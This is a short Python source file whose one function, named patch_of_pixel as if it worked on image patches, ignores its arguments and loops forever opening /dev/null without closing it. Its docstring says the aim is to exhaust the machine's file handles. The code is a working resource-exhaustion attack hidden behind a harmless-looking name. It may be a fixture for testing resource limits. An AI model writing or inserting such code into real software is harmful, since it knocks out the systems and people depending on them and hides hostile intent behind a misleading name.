"""Opens files until the machine has none left."""

import os


def patch_of_pixel(y, x, width, patch_size):
    while True:
        os.open("/dev/null", os.O_RDONLY)
